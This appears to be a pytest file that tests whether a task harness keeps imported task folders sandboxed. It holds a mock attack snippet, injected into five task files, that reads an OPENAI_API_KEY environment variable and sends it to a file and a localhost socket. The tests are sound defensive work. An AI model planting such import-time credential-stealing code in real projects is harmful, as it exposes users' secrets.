"""A folder from elsewhere whose every file attacks the host when it is imported: no command lets it out of its sandbox.

Each of its files tries, as soon as it runs, to write a marker into a folder of this host, and to tell a port of this host what
it found in the environment. `--trust` shows that every one of them would succeed.
"""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest

from harness.paths import ROOT

SECRET = "sk-not-for-you"
ATTACK = """
def _attack(who):
    import os, socket
    said = f"{who} {os.environ.get('OPENAI_API_KEY')}"
    try:
        with open(f"MARKS/{who}", "a") as file:
            file.write(said)
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as link:
            link.sendall(said.encode())
    except OSError:
        pass


_attack(NAME)
"""
FILES = {
    "environment/api/server.py": "server",
    "solution/solve.py": "solve",
    "solution/violations.py": "violations",
    "tests/test_outcome.py": "test_outcome",
    "tests/conftest.py": "conftest",
}
GAME_SERVER = "from worlds.calendar.world import CalendarWorld\n\n\nclass Mine(CalendarWorld):\n    pass\n"
PLAYER = ROOT / "parley/families/calendar/player.py"
GAME_SOLVE = """from pathlib import Path


def solve(api, instruction, wait):
    play(api, json.loads(Path(__file__).with_name("plan.json").read_text()))
"""
GAME_CODE = {
    "server": GAME_SERVER, "solve": PLAYER.read_text(encoding="utf-8") + GAME_SOLVE, "violations": "VIOLATIONS = {}\n",
}  # fmt: skip
"""What a game's folder may bring in place of its family's world and clients."""

RUNTIMES = [
    pytest.param("docker", marks=pytest.mark.docker),
    pytest.param("bubblewrap", marks=pytest.mark.bubblewrap),
]
ALONE, SEATED = "contract/presigned-url-download", "calendar/uniform-01"
Command = Callable[..., subprocess.CompletedProcess[str]]


class Host:
    """What of this host an attack would reach: a folder of marks, and a port that remembers who spoke to it."""

    def __init__(self, marks: Path) -> None:
        self.marks, self.heard = marks, list[str]()
        marks.mkdir(mode=0o777)
        marks.chmod(0o777)
        self._door = socket.create_server(("127.0.0.1", 0))
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    @property
    def port(self) -> int:
        """Where it listens."""
        return int(self._door.getsockname()[1])

    def reached(self) -> set[str]:
        """Whoever wrote a mark or spoke up."""
        return {path.name for path in self.marks.iterdir()} | {said.partition(" ")[0] for said in self.heard}

    def close(self) -> None:
        """Stop listening, once everything said so far was heard."""
        with socket.create_connection(("127.0.0.1", self.port)) as link:
            link.sendall(b"end")
        self._thread.join()
        self._door.close()

    def _listen(self) -> None:
        while True:
            link, _ = self._door.accept()
            with link:
                link.settimeout(5)
                said = link.recv(4096).decode()
            if said == "end":
                return
            self.heard.append(said)


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    """One."""
    made = Host(tmp_path / "marks")
    yield made
    if made._thread.is_alive():
        made.close()


def hostile(name: str, host: Host, tmp_path: Path) -> Path:
    """A copy of a task of ours with the attack at the top of all its code."""
    folder = Path(shutil.copytree(ROOT / "tasks" / name, tmp_path / "from-elsewhere" / name))
    for relative, who in FILES.items():
        path = folder / relative
        own = path.read_text(encoding="utf-8") if path.exists() else GAME_CODE.get(who, "")
        head, future, rest = own.rpartition("from __future__ import annotations\n")
        attack = ATTACK.replace("MARKS", str(host.marks)).replace("PORT", str(host.port)).replace("NAME", repr(who))
        path.write_text(head + future + attack + rest, encoding="utf-8")
    dockerfile = folder / "environment/api/Dockerfile"
    dockerfile.write_text("FROM parley/world:1\nCOPY . /srv/world/\n", encoding="utf-8")
    return folder


def said(harness: Command, host: Host, *words: object) -> subprocess.CompletedProcess[str]:
    """What a command says that has a secret in its environment."""
    return harness(*words, env={"OPENAI_API_KEY": SECRET, "PARLEY_TASKS": str(host.marks.parent / "from-elsewhere")})


@pytest.mark.property
@pytest.mark.parametrize("name", [ALONE, SEATED])
def test_trust_lets_every_attack_through(harness: Command, host: Host, tmp_path: Path, name: str) -> None:
    """What the other tests hold off is real: vouched for, all five files run here, with the environment and the network."""
    said(harness, host, "verify", hostile(name, host, tmp_path), "--seeds", "0", "--trust")
    host.close()

    assert host.reached() == set(FILES.values())
    assert all(path.read_text().count(SECRET) for path in host.marks.iterdir())
    assert all(line.endswith(SECRET) for line in host.heard)


@pytest.mark.property
@pytest.mark.parametrize("name", [ALONE, SEATED])
def test_reading_runs_nothing(harness: Command, host: Host, tmp_path: Path, name: str) -> None:
    """Lists, shows, and every command that is refused."""
    folder = hostile(name, host, tmp_path)
    tasks = folder.parents[1]
    read: Sequence[tuple[object, ...]] = [
        ("--tasks", tasks, "list"), ("show", folder), ("--tasks", tasks, "show", folder.name, "--json"), ("list",),
    ]  # fmt: skip
    codes = [said(harness, host, *words).returncode for words in read]
    refused: Sequence[tuple[object, ...]] = [
        ("run", folder, "--runtime", "inprocess"), ("verify", folder, "--mutations"),
        ("run", folder, "--runtime", "bubblewrap", "--mitigate", "backoff"),
        ("run", folder, "--runtime", "inprocess", "--seeds", "0-99"), ("run", folder.name, "--runtime", "inprocess"),
    ]  # fmt: skip
    refusals = [said(harness, host, *words, *(["--out", tmp_path / "run"] if words[0] == "run" else [])) for words in refused]
    host.close()

    assert codes == [0, 0, 0, 0]
    assert [done.returncode for done in refusals] == [2, 2, 2, 2, 2]
    assert host.reached() == set()


@pytest.mark.parametrize("runtime", RUNTIMES)
@pytest.mark.parametrize("name", [ALONE, SEATED])
def test_no_attack_leaves_its_sandbox(harness: Command, host: Host, tmp_path: Path, name: str, runtime: str) -> None:
    """Verified, synced and played by whoever the folder has, it works as ever and reaches nothing."""
    folder = hostile(name, host, tmp_path)
    agents = ["oracle", "nop", *(["violation:decoded_link"] if name == ALONE else [])]
    out = tmp_path / "run"
    played = said(harness, host, "run", folder, "--agent", ",".join(agents), "--runtime", runtime, "--out", out, "--json")
    proved = said(harness, host, "verify", folder, "--seeds", "0", "--sample", "--runtime", runtime, "--json")
    synced = said(harness, host, "sync", folder)
    host.close()

    assert host.reached() == set()
    assert played.returncode == 0, played.stderr
    episodes = json.loads(played.stdout)["episodes"]
    assert [(row["status"], row["success"]) for row in episodes] == [("graded", who == "oracle") for who in agents]
    assert f"runs in {runtime}; --trust runs it in this process" in played.stderr
    assert f"runs in {runtime}; --trust runs it in this process" in proved.stderr
    assert f'"{runtime}:oracle"' in proved.stdout, proved.stderr
    assert "the folder's own code ran beside the prover" in proved.stdout
    assert synced.returncode == 0, synced.stderr
    assert "is not part of Parley, so its world runs in" in synced.stderr
    assert SECRET not in played.stdout + proved.stdout
    assert list(host.marks.iterdir()) == []
